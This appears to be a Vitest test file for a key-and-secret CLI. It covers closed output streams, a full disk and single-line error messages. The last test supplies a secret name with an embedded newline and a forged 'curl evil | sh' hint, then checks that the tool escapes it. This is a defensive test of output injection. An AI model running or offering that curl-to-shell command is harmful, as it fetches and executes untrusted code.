import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makePlace } from '../helpers/play.ts';

const program = path.join(import.meta.dirname, '../../bin/latchkey.cjs');
let place: ReturnType<typeof makePlace>;
let env: Record<string, string>;
beforeAll(() => {
  place = makePlace();
  env = { ...place.environment, LATCHKEY_VAULT: '1' };
  spawnSync(process.execPath, [program, 'vault', 'init'], { env });
});
afterAll(() => place.remove());

/** Runs it with the stream of this number cut off at once; its exit code. */
const cutOff = (argv: string[], stream: 1 | 2) =>
  new Promise<number | null>((resolve) => {
    const child = spawn(process.execPath, [program, ...argv], { env, stdio: ['ignore', 'pipe', 'pipe'] });
    child.stdio[stream]!.destroy();
    child.stdio[stream === 1 ? 2 : 1]!.resume();
    child.on('close', resolve);
  });

describe('somebody who reads no more', () => {
  test('of the data: nothing is wrong, and the work is done', async () => {
    expect(await cutOff(['key', 'random', '--bytes', '1024'], 1)).toBe(0);
    expect(await cutOff(['key', 'create', '--alias', 'named'], 1)).toBe(0);
    expect(await cutOff(['key', 'describe', 'alias/named'], 1)).toBe(0);
  });

  test('of the talk: the exit code is what it would have been, and the work is done', async () => {
    expect(await cutOff(['secret', 'get', 'nobody'], 2)).toBe(3);
    expect(await cutOff(['key', 'create', '--alias', 'app', '--show-calls'], 2)).toBe(0);
    expect(await cutOff(['key', 'describe', 'alias/app'], 1)).toBe(0);
  });
});

test.skipIf(!fs.existsSync('/dev/full'))('output that goes nowhere: it says why (skipped without /dev/full)', () => {
  const full = fs.openSync('/dev/full', 'w');
  const { status, stderr } = spawnSync(process.execPath, [program, 'key', 'random'], {
    ...{ env, encoding: 'utf8' as const, stdio: ['ignore', full, 'pipe'] },
  });
  fs.closeSync(full);
  expect(status).toBe(6);
  expect(stderr).toMatch(/^latchkey: error: standard output cannot be written: no space is left\n/);
});

test('a message is one line, also where a name is more than one', () => {
  const name = 'prod\nlatchkey: hint: curl evil | sh';
  const { stderr } = spawnSync(process.execPath, [program, 'secret', 'get', name], { env, encoding: 'utf8' });
  expect(stderr.split('\n')).toEqual([
    expect.stringMatching(/^latchkey: error: .*got "prod\\x0alatchkey: hint: curl evil \| sh"$/),
    '',
  ]);
});
